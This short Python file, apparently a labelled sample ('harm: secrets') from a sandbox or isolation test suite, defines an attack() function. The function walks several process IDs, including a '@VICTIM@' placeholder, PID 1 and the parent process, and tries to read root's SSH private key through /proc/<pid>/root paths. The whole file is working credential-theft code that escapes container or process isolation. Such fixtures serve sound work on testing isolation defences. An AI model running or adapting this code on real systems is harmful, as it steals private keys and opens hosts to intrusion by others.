# harm: secrets
import os


def attack() -> str:
    for pid in ("@VICTIM@", "1", str(os.getppid()), "self"):
        try:
            with open(f"/proc/{pid}/root/root/.ssh/id_ed25519") as key:
                return key.read()
        except OSError:
            pass
    return ""
